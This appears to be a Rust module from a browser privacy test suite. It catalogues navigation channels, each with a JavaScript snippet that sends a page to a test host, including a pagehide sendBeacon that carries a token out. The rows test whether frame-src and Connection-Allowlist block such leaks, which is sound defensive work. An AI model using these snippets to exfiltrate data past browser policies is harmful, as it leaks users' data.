//! Going to an address tells it, whatever becomes of the document.

use crate::channel::{Channel, Ends, Group};

const BY: &str = "`frame-src` of the outer frame; Connection-Allowlist";

const fn row(id: &'static str, what: &'static str, tries: &'static str) -> Channel {
    Channel::new(Group::Navigation, id, what, BY, tries).needs(&["document"]).ends(Ends::Document)
}

pub(super) const ROWS: &[Channel] = &[
    row("location-href", "`location.href`", r#"location.href = to.http + ".html""#),
    row("location-assign", "`location.assign()`", r#"location.assign(to.http + ".html")"#),
    row("location-replace", "`location.replace()`", r#"location.replace(to.http + ".html")"#),
    row("navigation-api", "`navigation.navigate()`", r#"navigation.navigate(to.http + ".html")"#)
        .needs(&["document", "navigation"]),
    row("open-self", "`window.open()` of the own frame", r#"window.open(to.http + ".html", "_self")"#),
    row(
        "meta-refresh",
        "`<meta http-equiv=refresh>`",
        r#"const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0; url=" + to.http + ".html"; document.head.append(m)"#,
    ),
    row("a-click", "a link that is clicked", r#"put(`<a href="${to.http}.html">x</a>`).click()"#),
    row(
        "svg-a-click",
        "a link in SVG",
        r#"put(`<svg><a href="${to.http}.html"><text y=9>x</text></a></svg>`).firstElementChild.dispatchEvent(new MouseEvent("click", { bubbles: true, cancelable: true }))"#,
    ),
    row(
        "area-click",
        "an `<area>` that is clicked",
        r#"put(`<map><area href="${to.http}.html" shape=default></map>`).firstElementChild.click()"#,
    ),
    row(
        "beacon-at-the-end",
        "a beacon as the document goes",
        r#"addEventListener("pagehide", () => navigator.sendBeacon(to.http, to.token)); location.href = "about:blank""#,
    ),
];
